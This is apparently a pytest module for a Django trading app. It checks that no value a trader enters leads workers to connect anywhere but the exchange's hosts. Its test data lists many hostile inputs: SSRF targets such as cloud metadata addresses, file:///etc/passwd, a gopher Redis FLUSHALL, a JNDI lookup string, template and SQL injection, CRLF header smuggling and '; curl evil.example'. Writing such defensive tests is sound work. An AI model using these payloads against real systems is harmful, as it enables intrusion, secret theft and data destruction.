"""W9: whatever a trader types, workers ask for the hosts of the exchange alone, and connect to nothing else."""

import socket
from collections.abc import Coroutine, Iterator
from contextlib import suppress
from datetime import timedelta
from itertools import chain
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from pytest_django import Settings

from connections import locations
from connections.check import observe
from connections.check.facts import Policy
from connections.models import Connection
from connections.pages.forms import AddForm, CredentialsForm
from exchanges import registry
from exchanges.desk.desk import Desk
from exchanges.errors import ExchangeError
from exchanges.spec import ExchangeSpec, Market
from exchanges.values import Credentials
from exchanges.wire.ccxt_object import lender_of
from exchanges.wire.session import LOOP
from tests.accounts.factories import make_user, sign_in
from tests.connections.practising import add, only_credentials, work

if TYPE_CHECKING:
    from tests.practice.rig import Rig

pytestmark = [pytest.mark.django_db, pytest.mark.services, pytest.mark.usefixtures("published", "exchange_loop")]
HOSTS = (
    "evil.example",
    "127.0.0.1",
    "127.1",
    "0x7f000001",
    "2130706433",
    "0",
    "[::1]",
    "[::ffff:169.254.169.254]",
    "169.254.169.254",
    "metadata.google.internal",
    "10.0.0.1",
    "192.168.0.1",
    "localhost",
    "localhost.",
    "evil.example:22",
    "api.kucoin.com.evil.example",
    "api.kucoin.com@evil.example",
    "evil.example#api.kucoin.com",
    "еxample.com",
    "evil。example",
)
SHAPES = ("{}", "http://{}/", "https://{}:443/api/v1", "//{}/x", "https://api.kucoin.com@{}/", "x\r\nHost: {}")
OTHERS = (
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict://127.0.0.1:11211/",
    "ftp://evil.example/",
    "unix:///var/run/docker.sock",
    "socks5://evil.example:1080",
    "jar:http://evil.example!/",
    "data:text/html,x",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "%(base)s",
    "{0.__class__}",
    "{hostname}",
    '{"urls": {"api": "http://evil.example"}}',
    '{"proxy": "http://evil.example"}',
    "proxies=http://evil.example",
    "../../../../etc/hosts",
    "..%2f..%2f",
    "/../@evil.example/",
    "\x00",
    "a\x00evil.example",
    "\r\n\r\nGET http://evil.example/",
    "?url=http://evil.example",
    "#http://evil.example",
    "\u202eelpmaxe.live",
    "\ufeffhttp://evil.example",
    "\ud7ff",
    "x" * 4096,
    "http://" + "a" * 4000 + ".evil.example/",
    "; curl evil.example",
    "`curl evil.example`",
    "' OR 1=1 --",
    "-1",
    "1e999",
    "NaN",
)
VALUES = tuple(shape.format(host) for host in HOSTS for shape in SHAPES) + OTHERS
# What a form does not ask for, and somebody may send all the same.
GUESSED = ("exchange", "base", "url", "urls", "host", "hostname", "proxy", "sandbox", "options", "next", "slug")

Places = set[tuple[str, int]]


@pytest.fixture
def asked(monkeypatch: pytest.MonkeyPatch) -> Iterator[Places]:
    """Return the hosts, with their ports, that this process asks for or connects to; none but loopback is reached."""
    found: Places = set()
    resolve, connect = socket.getaddrinfo, socket.socket.connect

    def spy_on_names(host: Any, port: Any = 0, *args: Any, **named: Any) -> Any:
        name = host.decode() if isinstance(host, bytes) else str(host)
        found.add((name, int(port or 0)))
        if name != "127.0.0.1":
            raise socket.gaierror(socket.EAI_NONAME, "nobody is asked here")
        return resolve(host, port, *args, **named)

    def spy_on_addresses(self: socket.socket, address: Any) -> Any:
        if self.family != socket.AF_UNIX:
            found.add((str(address[0]), int(address[1])))
        return connect(self, address)

    monkeypatch.setattr(socket, "getaddrinfo", spy_on_names)
    monkeypatch.setattr(socket.socket, "connect", spy_on_addresses)
    # Of tests before there may be connections that are open still.
    LOOP.close()
    yield found
    LOOP.close()


def place_of(url: str) -> tuple[str, int]:
    parts = urlsplit(url)
    return str(parts.hostname), parts.port or {"http": 80, "https": 443}[parts.scheme]


def own_places(spec: ExchangeSpec) -> Places:
    return {place_of(base) for base in (spec.base, spec.futures) if base}


def shifted(number: int, count: int) -> list[str]:
    """Return as many values, others for each number: in a round each value has stood in each place."""
    return [VALUES[(number + place * 17) % len(VALUES)] for place in range(count)]


def test_there_are_more_than_a_hundred_values() -> None:
    assert len(set(VALUES)) > 100


@pytest.mark.parametrize("spec", registry.ALL, ids=lambda spec: spec.slug)
def test_no_key_leads_anywhere_but_to_the_exchange(spec: ExchangeSpec, asked: Places) -> None:
    """Whatever forms refuse: each value stands in each part of a key that a worker checks."""
    subject = observe.Subject(
        spec=spec,
        market=Market(next(iter(spec.markets))),
        location=locations.location_of(spec.slug, "live"),
        policy=Policy(),
        deadline_seconds=5.0,
    )
    for number in range(len(VALUES)):
        api_key, secret, passphrase = shifted(number, 3)
        keys = Credentials(api_key=api_key, secret=secret, passphrase=passphrase)
        for facts in observe.watch(subject, keys, today=timezone.now().date()):
            assert not facts.rights

    assert asked
    assert asked <= own_places(spec)


@pytest.mark.parametrize("spec", [one for one in registry.ALL if one.slug == one.family], ids=lambda spec: spec.slug)
def test_no_pair_and_no_order_leads_anywhere_else(spec: ExchangeSpec, rig: "Rig", asked: Places) -> None:
    """On the practice exchange, where markets are known and answers come: each value is a pair and an order's id."""
    desk = Desk(lender_of(spec, locations.location_of(spec.slug, "practice")))
    keys = Credentials(**only_credentials(rig.tryout(spec.slug, "good")))
    since = timezone.now() - timedelta(minutes=1)

    def of(value: str) -> list[Coroutine[Any, Any, Any]]:
        return [desk.candles(value, "5m", 10), desk.fills(keys, pair="BTC/USDT", exchange_id=value, since=since)]

    for question in (desk.quotes(VALUES), desk.rules(VALUES), *chain.from_iterable(map(of, VALUES))):
        with suppress(ExchangeError, LookupError, ValueError):
            LOOP.submit(question).result(timeout=20)

    assert asked == {place_of(rig.base)}


def test_no_field_of_the_forms_for_keys_leads_anywhere_else(
    rig: "Rig", asked: Places, client: Client, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each value in each field, one at a time, in the form that adds and in the one that replaces."""
    settings.CHECKS_PER_MINUTE = settings.CHECKS_PER_USER = settings.CONNECTIONS_PER_USER = 10**6
    # It never answers, and is asked each time.
    monkeypatch.setattr("connections.breaker.note", lambda *where, has_answered: None)
    owner, keys = make_user(), only_credentials(rig.tryout("kucoin", "good"))
    sign_in(client, owner)
    first = add(owner, keys, venue="live", name="First")
    work(first)
    replace = reverse("connection_replace", args=[first.public_id])
    # The test itself asks the practice exchange for keys.
    asked.clear()
    spec, count = first.spec, 0
    for number, value in enumerate(VALUES):
        guessed = dict.fromkeys(GUESSED, value)
        for field in ("name", "market", "venue", *keys):
            api_key = f"{count:024x}"
            good = {"name": f"{field} {number}", "market": "spot", "venue": "live", "api_key": api_key}
            typed = guessed | keys | good | {field: value}
            # What the form refuses is shown again, and reaches no worker.
            if AddForm(typed, spec=spec).is_valid():
                count += 1
                assert client.post("/connections/add/kucoin/", typed).status_code == 302
        for field in keys:
            if CredentialsForm(typed := guessed | keys | {field: value}, spec=spec).is_valid():
                client.post(replace, typed)
    waiting = list(Connection.objects.owned_by(owner).exclude(testing_run=None))
    for connection in waiting:
        work(connection)

    assert len(waiting) >= count > 100
    assert {one.exchange for one in Connection.objects.all()} == {"kucoin"}
    assert asked
    assert asked <= own_places(registry.get("kucoin"))
